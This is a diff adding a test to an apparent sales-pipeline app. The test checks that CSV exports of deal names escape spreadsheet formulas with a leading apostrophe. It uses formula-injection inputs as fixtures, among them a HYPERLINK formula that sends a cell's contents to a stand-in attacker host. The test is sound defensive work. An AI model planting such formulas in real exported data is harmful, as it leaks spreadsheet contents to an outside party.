@@ -8,6 +8,8 @@ OpenFire deal moved past a stage on a free move; targets for January.
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime
 from typing import Any
 
@@ -18,7 +20,7 @@ from bpmn_sales.domain.analytics import duration
 from bpmn_sales.errors import Forbidden, InvalidInput
 from bpmn_sales.persistence.models import Deal, StageVisit
 from bpmn_sales.services import analytics, deals, leads, processes
-from bpmn_sales.services.analytics import targets
+from bpmn_sales.services.analytics import tables, targets
 from bpmn_sales.services.analytics.scope import Filters
 from bpmn_sales.services.deals import records
 from bpmn_sales.services.demo import steps as demo_steps
@@ -292,3 +294,23 @@ def test_stage_visits_replayed_from_history_match_the_live_projection(
     command.upgrade(alembic_config(ctx.db), "head")
     assert stays() == live
     assert analytics.funnel(ctx, team.admin, ALL).deals == 6
+
+
+def test_text_that_a_spreadsheet_would_run_is_exported_as_text(
+    ctx: Context, team: Any, clock: Any
+) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    names = (hostile, "+1+1", "-2+3", "@SUM(A1)", "Plain")  # (names are stripped of tabs)
+    at(clock, 1)
+    for name in names:
+        deals.create_deal(ctx, team.rob, name, None, "100")
+    at(clock, 28)  # past the initial visit's reminder: all five are stuck
+    exported = tables.table(ctx, team.admin, "stuck", ALL).csv()
+    rows = list(csv.reader(io.StringIO(exported)))
+    assert sorted(row[2] for row in rows[1:]) == sorted(
+        ["'" + hostile, "'+1+1", "'-2+3", "'@SUM(A1)", "Plain"]
+    )
+    # numbers stay numbers, and the JSON answer keeps each name as typed
+    assert all(row[1].isdigit() and row[4].isdigit() for row in rows[1:])
+    shown = tables.table(ctx, team.admin, "stuck", ALL).to_dict()
+    assert {row[2] for row in shown["rows"]} == set(names)
